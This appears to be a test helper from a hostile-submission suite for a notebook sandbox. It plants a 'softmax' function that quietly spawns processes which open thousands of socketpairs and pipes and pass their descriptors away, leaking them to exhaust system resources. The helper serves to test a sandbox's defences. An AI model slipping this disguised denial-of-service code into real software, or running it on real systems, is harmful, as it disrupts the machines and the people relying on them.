"""Sends descriptors to nobody, so that they stay open without a number."""

from tests.hostile.attack_tools import CHILDREN, put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import os, socket

    def send():
        try:
            for _ in range(2000):
                own, other = socket.socketpair()
                own.setblocking(False)
                reader, writer = os.pipe()
                os.set_blocking(writer, False)
                os.write(writer, bytes(1 << 16))
                socket.send_fds(own, [b"x"], [reader, writer, other.fileno()])
                for each in (reader, writer):
                    os.close(each)
        except OSError:
            pass

    children(10, send)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CHILDREN + CODE)
